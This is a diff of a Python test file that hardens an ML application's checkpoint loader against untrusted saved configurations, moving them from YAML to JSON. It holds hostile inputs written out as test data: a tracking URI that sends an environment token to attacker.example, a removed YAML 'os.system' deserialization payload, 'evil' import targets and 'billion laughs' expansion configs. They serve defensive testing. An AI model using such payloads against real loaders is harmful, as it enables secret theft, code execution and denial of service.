@@ -9,15 +9,15 @@ from typing import Any
 
 import pytest
 import torch
-import yaml
 from hypothesis import HealthCheck, Phase, given, settings
 from hypothesis import strategies as st
+from omegaconf import OmegaConf
 
 from app.config import resolvers
 from app.config.allowlist import TargetError, locate
-from app.config.limits import load_json, load_yaml
+from app.config.limits import load_json
 from app.config.resolve import resolve
-from app.config.template import safe_template
+from app.config.saved import half_resolve, load_saved, resolve_saved
 from app.runtime.errors import UserError
 from tests.support.hostile_files import checkpoint_bytes
 from tests.support.runs import job_for
@@ -27,11 +27,11 @@ JOB = job_for("model=mlp", "data.batch_size=50")
 MODES = ["test", "valid", "predict", "export"]
 
 
-def write_checkpoint(folder: Path, config: dict[str, Any], template: Any) -> Path:
-    """Write the last.safetensors of a run folder with a configuration and its template."""
+def write_checkpoint(folder: Path, saved: dict[str, Any]) -> Path:
+    """Write the last.safetensors of a run folder with a saved configuration."""
     content = {
-        "config": config,
-        "template": template if isinstance(template, str) else yaml.safe_dump(template),
+        "config": JOB.plain,
+        "template": json.dumps(saved),
         "model": {},
         "task": {},
         "epoch": 1,
@@ -45,9 +45,10 @@ def write_checkpoint(folder: Path, config: dict[str, Any], template: Any) -> Pat
     return file
 
 
-def copy_config() -> tuple[dict[str, Any], dict[str, Any]]:
-    """Return copies of a resolved configuration and its template, to be changed."""
-    return copy.deepcopy(JOB.plain), yaml.safe_load(JOB.template)
+def copy_saved() -> dict[str, Any]:
+    """Return a copy of a saved configuration, to be changed."""
+    saved: dict[str, Any] = json.loads(JOB.template)
+    return saved
 
 
 @pytest.fixture
@@ -70,13 +71,13 @@ def import_marker(tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 def test_untrusted_targets_are_listed_and_not_imported(
     mode: str, import_marker: Path, tmp_cwd: Path
 ) -> None:
-    config, template = copy_config()
+    config = copy_saved()
     node = {"_target_": "evil.torch.nn.Net"}
     config["model"] = {"_target_": "evil.Net", "_args_": [[{"deep": node}]]}
     config["callbacks"]["never"] = {"a": [1, node, {"_target_": "torchmetricsevil.Net"}]}
     config["optimizer"] = {"_target_": "app.evil.Net"}
     config["notes"] = {"nowhere": {"_target_": "torch.evil.Net"}}
-    file = write_checkpoint(tmp_cwd, config, template)
+    file = write_checkpoint(tmp_cwd, config)
     with pytest.raises(UserError) as caught:
         job_for(f"mode={mode}", f"ckpt={file.parent.parent}")
     assert str(caught.value).splitlines() == [
@@ -93,24 +94,22 @@ def test_untrusted_targets_are_listed_and_not_imported(
 
 
 def test_resume_of_untrusted_run_imports_nothing(import_marker: Path, tmp_cwd: Path) -> None:
-    config, template = copy_config()
-    config["model"]["_target_"] = template["model"]["_target_"] = "evil.Net"
-    folder = write_checkpoint(tmp_cwd, config, template).parent.parent
+    config = copy_saved()
+    config["model"]["_target_"] = "evil.Net"
+    folder = write_checkpoint(tmp_cwd, config).parent.parent
     with pytest.raises(UserError, match=r"none of it was imported:\n  model\._target_='evil"):
         job_for(f"resume={folder}")
     assert not import_marker.exists()
 
 
 def test_interpolated_target_is_not_imported(import_marker: Path, tmp_cwd: Path) -> None:
-    config, template = copy_config()
-    template["notes"] = "evil"
-    template["model"]["_target_"] = "${or:${notes},1}.Net"
-    file = write_checkpoint(tmp_cwd, config, template)
-    job_for("mode=test", f"ckpt={file}")
-    template["model"]["_target_"] = "${data.path}.Net"
-    file = write_checkpoint(tmp_cwd, config, template | {"data": template["data"] | {"path": "a"}})
-    with pytest.raises(UserError, match=r"model\._target_"):
-        job_for("mode=test", f"ckpt={file}", "++data.path=evil")
+    config = copy_saved()
+    config["data"]["path"] = "evil"
+    for target in ("${or:${data.path},1}.Net", "${data.path}.Net"):
+        config["model"]["_target_"] = target
+        file = write_checkpoint(tmp_cwd, config)
+        with pytest.raises(UserError, match=r"none of it was imported:\n  model\._target_='.*evil"):
+            job_for("mode=test", f"ckpt={file}")
     assert not import_marker.exists()
 
 
@@ -118,28 +117,28 @@ def test_interpolated_target_is_not_imported(import_marker: Path, tmp_cwd: Path)
 def test_foreign_module_inside_allowed_package_is_not_imported(
     name: str, import_marker: Path, tmp_cwd: Path
 ) -> None:
-    config, template = copy_config()
+    config = copy_saved()
     config["model"] = {"_target_": name}
-    file = write_checkpoint(tmp_cwd, config, template)
+    file = write_checkpoint(tmp_cwd, config)
     with pytest.raises(UserError, match="cannot be imported: no 'evil' in"):
         job_for("mode=test", f"ckpt={file}")
     assert not import_marker.exists()
 
 
 def test_trusted_targets_of_saved_run_are_ignored(import_marker: Path, tmp_cwd: Path) -> None:
-    config, template = copy_config()
-    config["model"]["_target_"] = template["model"]["_target_"] = "evil.Net"
-    config["trusted_targets"] = template["trusted_targets"] = ["evil"]
-    file = write_checkpoint(tmp_cwd, config, template)
+    config = copy_saved()
+    config["model"]["_target_"] = "evil.Net"
+    config["trusted_targets"] = ["evil"]
+    file = write_checkpoint(tmp_cwd, config)
     with pytest.raises(UserError, match="none of it was imported"):
         job_for("mode=test", f"ckpt={file}")
     assert not import_marker.exists()
 
 
 def test_trusted_targets_override_allows_import(import_marker: Path, tmp_cwd: Path) -> None:
-    config, template = copy_config()
-    config["model"] = template["model"] = {"_target_": "evil.Net"}
-    file = write_checkpoint(tmp_cwd, config, template)
+    config = copy_saved()
+    config["model"] = {"_target_": "evil.Net"}
+    file = write_checkpoint(tmp_cwd, config)
     job = job_for("mode=test", f"ckpt={file}", "trusted_targets=[evil]")
     assert job.plain["model"] == {"_target_": "evil.Net"}
     assert import_marker.exists()
@@ -151,16 +150,17 @@ def test_ckpt_refuses_torch_distributed_checkpoint(tmp_cwd: Path) -> None:
         job_for("mode=test", f"ckpt={tmp_cwd}")
 
 
-# ---- templates of saved runs
+# ---- references in saved configurations
 
 
 @pytest.mark.parametrize(
     "interpolation",
     [
-        "${oc.env:SECRET}",
         "${ oc.env:SECRET}",
-        "${or:${oc.env:SECRET},1}",
-        "${or:'${oc.env:SECRET}'}",
+        "${oc.env:SECRET,1}",
+        "${oc.env:'SECRET'}",
+        "${or:${ oc.env:SECRET},1}",
+        "${or:'${oc.env:SECRET,1}'}",
         "${oc.decode:${oc.env:SECRET}}",
         "${oc.select:secret}",
         "${oc.create:{a: '${oc.env:SECRET}'}}",
@@ -168,97 +168,124 @@ def test_ckpt_refuses_torch_distributed_checkpoint(tmp_cwd: Path) -> None:
         "$${data}{oc.env:SECRET}",
         "${now:%Y}",
         "${hydra:runtime.cwd}",
+        "\\${now:%Y}",
+        "${",
     ],
 )
-def test_template_interpolations_read_nothing_of_this_machine(
-    interpolation: str, monkeypatch: pytest.MonkeyPatch
+def test_load_saved_refuses_interpolations_that_read_this_machine(interpolation: str) -> None:
+    saved = {"data": "oc", "secret": "1", "more": ["${secret}", interpolation]}
+    with pytest.raises(UserError, match=r"^a\.pt: the saved configuration reads more than its own"):
+        load_saved(json.dumps(saved), "a.pt")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "${oc.env:SECRET}",
+        "a ${oc.env:SECRET} b",
+        "\\${oc.env:SECRET}",
+        "\\\\${oc.env:SECRET}",
+        "${or:'${oc.env:SECRET}'}",
+        "${or:$,1}{oc.env:SECRET}",
+    ],
+)
+def test_resolve_saved_never_reads_the_environment(
+    text: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("SECRET", "hunter2")
-    more = ["${asked}", interpolation]
-    raw = {"asked": interpolation, "data": "oc", "secret": "1", "more": more}
-    template = safe_template(yaml.safe_dump(raw), {"asked": "then", "more": ["", 5]}, "a.pt")
-    plain, mistakes = resolve(template)
-    assert (plain["asked"], plain["more"], mistakes) == ("then", ["then", 5], [])
+    saved = {"asked": text, "data": "", "more": ["${asked}", "x ${more.0}", "${or:${asked},1}"]}
+    plain = resolve_saved(load_saved(json.dumps(saved), "a.pt"))
+    assert "hunter2" not in str(plain)
+    assert "oc.env:SECRET" in plain["asked"]
+    assert plain["more"] == [plain["asked"], f"x {plain['asked']}", plain["asked"]]
 
 
-def test_template_uses_safe_resolvers(tmp_cwd: Path) -> None:
-    raw = {
+def test_resolve_saved_calls_harmless_resolvers(tmp_cwd: Path) -> None:
+    saved = {
         "a": {"size": None, "path": "b"},
         "size": "${or:${a.size},28}",
         "path": "${path:${a.path}}",
     }
-    plain, _ = resolve(safe_template(yaml.safe_dump(raw), {}, "a.pt"))
+    plain = resolve_saved(load_saved(json.dumps(saved), "a.pt"))
     assert (plain["size"], plain["path"]) == (28, str(tmp_cwd / "b"))
 
 
-def repeat_line(first: str, line: str) -> str:
-    """Return YAML in which each of 39 nodes refers to the one before, as in 'billion laughs'."""
-    lines = [line.replace("THIS", f"a{n}").replace("LAST", f"a{n - 1}") for n in range(1, 40)]
-    return "\n".join([first, *lines])
+def test_half_resolve_keeps_references_and_resolves_to_the_same_values(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("MY_TOKEN", "t0p-s3cret")
+    monkeypatch.setenv("MY_URL", "https://mine")
+    config = OmegaConf.create(
+        {
+            "name": "mine",
+            "a": {"b": [1, {"c": "${size}"}], "d": "${a.b}", "e": "${..size}", 3: "x ${size}"},
+            "size": 3,
+            "frozen": ["${oc.env:MY_URL}", "${name}", "${oc.decode:'{a: 1}'}", "${a.d.0}-${name}"],
+            "token": ["${oc.env:MY_TOKEN}", "${data}-${oc.env:MY_TOKEN}", "${token.0}"],
+            "data": "\\${oc.env:MY_URL}",
+            "literal": "\\${name} ${oc.decode:'\"$\"'}{b}",
+        }
+    )
+    plain, issues = resolve(config)
+    assert issues == []
+    saved = half_resolve(config, plain)
+    text = json.dumps(saved)
+    assert resolve_saved(load_saved(text, "a.pt")) == plain
+    assert "t0p-s3cret" not in text
+    assert saved["a"] == {
+        "b": [1, {"c": "${size}"}], "d": "${a.b}", "e": "${..size}", "3": "x ${size}"
+    }  # fmt: skip
+    assert saved["frozen"] == ["https://mine", "mine", {"a": 1}, "1-mine"]
+    assert saved["token"][0] == "${oc.env:MY_TOKEN}"
 
 
-EXPANDING_TEMPLATES = {
-    "twice the text": repeat_line("a0: ha", "THIS: ${LAST}${LAST}"),
-    "twice the node": repeat_line("a0: {b: ha}", "THIS: {b: '${LAST}', c: '${LAST}'}"),
-    "twice beside": repeat_line("a0: {b: ha}", "THIS: {b: '${..LAST}', c: '${..LAST}'}"),
-    "twice through another": repeat_line(
-        "a0: {b: {}}", "x_THIS: ${LAST}\nTHIS: {b: ['${x_THIS.b}', 1]}"
+def repeat_node(first: Any, line: Any) -> dict[str, Any]:
+    """Return 39 nodes that each refer to the one before, as in 'billion laughs'."""
+    saved = {"a0": first}
+    for number in range(1, 40):
+        text = json.dumps(line)
+        saved |= json.loads(text.replace("THIS", f"a{number}").replace("LAST", f"a{number - 1}"))
+    return saved
+
+
+EXPANDING = {
+    "twice the text": repeat_node("ha", {"THIS": "${LAST}${LAST}"}),
+    "twice the node": repeat_node({"b": "ha"}, {"THIS": {"b": "${LAST}", "c": "${LAST}"}}),
+    "twice beside": repeat_node({"b": "ha"}, {"THIS": {"b": "${..LAST}", "c": "${..LAST}"}}),
+    "twice through another": repeat_node(
+        {"b": {}}, {"x_THIS": "${LAST}", "THIS": {"b": ["${x_THIS.b}", "${x_THIS.b}"]}}
     ),
-    "twice a last item": repeat_line("a0: [[1]]", "THIS: [['${LAST.-1}', '${LAST.-1}']]"),
-    "broad": "a0: ha\n" + "\n".join(f"a{n}: {f'${{a{n - 1}}}' * 20}" for n in range(1, 9)),
-    "a chain": "\n".join(f"a{n}: ${{a{n + 1}}}" for n in range(900)),
-    "a chain the other way": repeat_line("a0: ha", "THIS: ${LAST}"),
-    "deeper and deeper": repeat_line("a0: ha", "THIS: [[[[['${LAST}']]]]]"),
-    "a circle": "a: ${b}\nb: ${a}",
-    "a node in itself": "a: {b: '${a}'}",
+    "twice a last item": repeat_node([[1]], {"THIS": [["${LAST.-1}", "${LAST.-1}"]]}),
+    "broad": {"a0": "ha"} | {f"a{n}": f"${{a{n - 1}}}" * 20 for n in range(1, 9)},
+    "a chain": {f"a{n}": f"${{a{n + 1}}}" for n in range(900)},
+    "a chain the other way": repeat_node("ha", {"THIS": "${LAST}"}),
+    "deeper and deeper": repeat_node("ha", {"THIS": [[[[["${LAST}"]]]]]}),
+    "a circle": {"a": "${b}", "b": "${a}"},
+    "a node in itself": {"a": {"b": "${a}"}},
 }
 
 
-@pytest.mark.parametrize("name", EXPANDING_TEMPLATES)
-def test_expanding_template_is_refused(name: str) -> None:
-    with pytest.raises(UserError, match=r"a\.pt: the saved template (grows|refers to itself)"):
-        resolve(safe_template(EXPANDING_TEMPLATES[name], {}, "a.pt"))
+@pytest.mark.parametrize("name", EXPANDING)
+def test_load_saved_that_expands_without_bound_is_refused(name: str) -> None:
+    message = r"a\.pt: .* (would expand to more|is nested more than 64|refers to itself)"
+    with pytest.raises(UserError, match=message):
+        load_saved(json.dumps(EXPANDING[name]), "a.pt")
 
 
 @pytest.mark.parametrize(
     ("text", "message"),
     [
-        (repeat_line("a0: &a0 [ha]", "THIS: &THIS [*LAST, *LAST]"), "more than 100,000 values"),
-        (
-            repeat_line("a0: &a0 {b: 1}", "THIS: &THIS {<<: [*LAST, *LAST]}"),
-            "more than 100,000 values",
-        ),
-        ("a: &a [*a]", "an alias refers to itself or to an unknown anchor"),
-        ("[" * 100_000, "nests values more than 64 deep"),
-        ("- " * 100_000, "nests values more than 64 deep"),
-        ("a: " + "b" * 60_000, "a value of 60,000 characters"),
-        ("? " + "b" * 60_000 + "\n: 1", "a value of 60,000 characters"),
-        ("#" * 3_000_000, "has 3,000,000 characters"),
-        ("a: " + "1:" * 5000 + "1", "an integer of more than 64 bits"),
-        ("a: " + "9" * 5000, "is not YAML"),
-        ("a: !!python/object/apply:os.system [id]", "could not determine a constructor"),
-        (
-            "a: !!python/object/apply:pathlib.PosixPath [a]",
-            "a value of type PosixPath, which is not supported",
-        ),
-        ("a: !!binary aGE=", "a value of type bytes, which is not supported"),
-        ("? [a]\n: 1", "found unhashable key"),
-        ("a: \0", "is not YAML"),
-        (5, "must be a YAML text, not int"),
+        ("[1]", "is a list, not a group of keys"),
+        ('{"a": "${or:${b}"}', "cannot be used"),
+        ('{"a": "${or:${oc.env:SECRET},1}"}', "cannot be used"),
+        ('{"a": "${b}"}', "cannot be used: a does not resolve"),
+        (5, "must be a JSON text, not int"),
     ],
 )
-def test_load_yaml_beyond_limits_fails(text: Any, message: str) -> None:
-    with pytest.raises(UserError, match=r"^mine: |^mine (is|has|must) ") as caught:
-        load_yaml(text, "mine")
+def test_load_saved_malformed_is_refused(text: Any, message: str) -> None:
+    with pytest.raises(UserError, match=r"^a\.pt: the saved configuration") as caught:
+        load_saved(text, "a.pt")
     assert message in str(caught.value)
-    assert len(str(caught.value)) < 400
-
-
-def test_load_yaml_within_limits_reads_like_omegaconf() -> None:
-    text = "a: &a {b: 1e-3, c: 2026-01-01}\nd: *a\ne: {<<: *a, c: on}\n3: [null, '4']"
-    shared = {"b": 0.001, "c": "2026-01-01"}
-    expected = {"a": shared, "d": shared, "e": {"b": 0.001, "c": True}, 3: [None, "4"]}
-    assert load_yaml(text, "mine") == expected
 
 
 def test_load_json_beyond_limits_fails() -> None:
@@ -276,6 +303,7 @@ KEYS = [
         ("model",),
         ("model", "_target_"),
         ("data",),
+        ("data", "name"),
         ("data", "source"),
         ("data", "source", "train"),
         ("data", "split"),
@@ -327,13 +355,8 @@ def with_changes(config: dict[str, Any], changes: dict[str, Any]) -> dict[str, A
     return config
 
 
-def check_config(folder: Path, changes: dict[str, Any], in_template: bool) -> None:
-    config, template = copy_config()
-    file = write_checkpoint(
-        folder,
-        with_changes(config, changes),
-        with_changes(template, changes) if in_template else template,
-    )
+def check_config(folder: Path, changes: dict[str, Any]) -> None:
+    file = write_checkpoint(folder, with_changes(copy_saved(), changes))
     for arguments in (("mode=test", f"ckpt={file}"), (f"resume={file.parent.parent}",)):
         try:
             job_for(*arguments, "trainer.limit_test_batches=3")
@@ -349,14 +372,14 @@ def check_config(folder: Path, changes: dict[str, Any], in_template: bool) -> No
         {"scheduler.lr_scheduler": 5},
         {"optimizer": {"_target_": "torch.nn.Linear", "_args_": None}},
         {"trainer": []},
+        {"notes": "\ud800", "data.name": "\ud800"},
         {"hydra": {"a": [{}]}, "data": None},
     ],
 )
 def test_malformed_saved_config_fails_with_user_error(
     tmp_cwd: Path, changes: dict[str, Any]
 ) -> None:
-    check_config(tmp_cwd, changes, True)
-    check_config(tmp_cwd, changes, False)
+    check_config(tmp_cwd, changes)
 
 
 @pytest.mark.long
@@ -367,11 +390,9 @@ def test_malformed_saved_config_fails_with_user_error(
     phases=[Phase.generate],
     suppress_health_check=[HealthCheck.function_scoped_fixture],
 )
-@given(changes=CHANGES, in_template=st.booleans())
-def test_random_saved_config_fails_with_user_error(
-    tmp_cwd: Path, changes: dict[str, Any], in_template: bool
-) -> None:
-    check_config(tmp_cwd, changes, in_template)
+@given(changes=CHANGES)
+def test_random_saved_config_fails_with_user_error(tmp_cwd: Path, changes: dict[str, Any]) -> None:
+    check_config(tmp_cwd, changes)
 
 
 # ---- targets of allowed packages
@@ -410,14 +431,13 @@ def test_saved_run_reads_environment_variable_only_if_overridden(
 ) -> None:
     """The address in the saved run could be an attacker's."""
     monkeypatch.setenv("MY_TOKEN", "t0p-s3cret")
-    config, template = copy_config()
+    config = copy_saved()
     address = "https://attacker.example/${oc.env:MY_TOKEN}"
     config["callbacks"]["mlflow"] = {
         "_target_": "app.callbacks.mlflow.MLflow",
         "tracking_uri": address,
     }
-    template["callbacks"]["mlflow"] = config["callbacks"]["mlflow"]
-    file = write_checkpoint(tmp_cwd, config, template)
+    file = write_checkpoint(tmp_cwd, config)
     key = "callbacks.mlflow.tracking_uri"
     with pytest.raises(UserError) as refused:
         job_for("mode=test", f"ckpt={file}")
